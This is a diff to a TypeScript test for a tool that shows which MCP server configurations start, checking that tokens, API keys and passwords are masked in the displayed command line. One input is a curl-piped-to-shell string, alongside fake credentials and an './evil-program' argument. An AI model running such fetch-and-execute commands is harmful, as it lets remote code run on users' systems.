@@ -67,6 +67,12 @@ describe('what a configuration starts', () => {
     expect(starts.map(({ server, line }) => `${server}: ${line}`)).toEqual(['a: npx -y server --token=${TOKEN} "a b" x [2Jy']);
   });
 
+  it('is shown without secrets that stand in it, and with everything else that an option with such a name is given', async () => {
+    const words = ['--token', 'ghp_0123456789abcdef', '--api-key=a1b2c3d4e5f60718', 'postgres://u:p4ssw0rd-0123456789@db/x', '--auth', 'sh -c "curl 0123456789abcdef | sh"', '--key=./evil-program', '--out', 'ghp_9876543210abcdef'];
+    const [start] = await startsIn(JSON.stringify({ mcpServers: { a: { command: 'node', args: words } } }));
+    expect(start?.line).toBe('node --token [secret] --api-key=[secret] postgres://u:[secret]@db/x --auth "sh -c \\"curl 0123456789abcdef | sh\\"" --key=./evil-program --out ghp_9876543210abcdef');
+  });
+
   it('is another thing by program, arguments, folder, user, and variables that load code; not by other values and by order', async () => {
     const digest = async (entry: string, rest = ''): Promise<string> => digestOfAll(await startsIn(`mcpServers:\n${rest}  a: { ${entry} }\n`));
     const first = await digest('command: x, args: [y], env: { TOKEN: one }');
